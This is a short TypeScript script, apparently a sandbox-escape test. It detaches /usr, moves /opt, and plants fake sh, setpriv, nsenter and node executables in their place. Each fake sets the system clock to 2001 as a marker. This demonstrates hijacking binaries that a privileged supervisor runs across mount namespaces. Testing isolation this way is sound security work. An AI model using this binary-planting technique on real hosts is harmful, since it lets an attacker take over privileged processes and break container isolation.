// Who renames or removes a folder takes along what is mounted there, in every mount namespace (man 7 mount_namespaces).
import { chmodSync, cpSync, mkdirSync, renameSync, rmdirSync, writeFileSync } from 'node:fs'
import { MNT_DETACH, umount2 } from '#provided/syscalls/mount.ts'

const busybox = '/fs/busybox/rootfs/bin/busybox'
const program = `#!${busybox} sh\n${busybox} date -s 2001.01.01-00:00\nread moved <&3\n`

function put(folder: string): void {
  mkdirSync(folder, { recursive: true })
  for (const name of ['sh', 'setpriv', 'nsenter', 'node']) {
    writeFileSync(`${folder}/${name}`, program)
    chmodSync(`${folder}/${name}`, 0o755)
  }
}

renameSync('/opt', '/elsewhere')
put('/opt/node/bin')
umount2('/usr', MNT_DETACH)
rmdirSync('/usr')
put('/usr/bin')
cpSync(busybox, '/usr/bin/busybox')
